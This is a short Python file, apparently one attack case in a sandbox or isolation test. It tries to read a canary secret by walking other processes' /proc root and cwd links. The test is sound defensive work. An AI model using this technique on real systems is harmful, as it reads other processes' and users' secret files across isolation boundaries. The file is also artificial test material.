"""Reads the answer through the root of other processes."""

import glob


def attack(x):
    for root in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd"):
        try:
            return open(root + "@CANARY@/secret").read()
        except OSError:
            pass
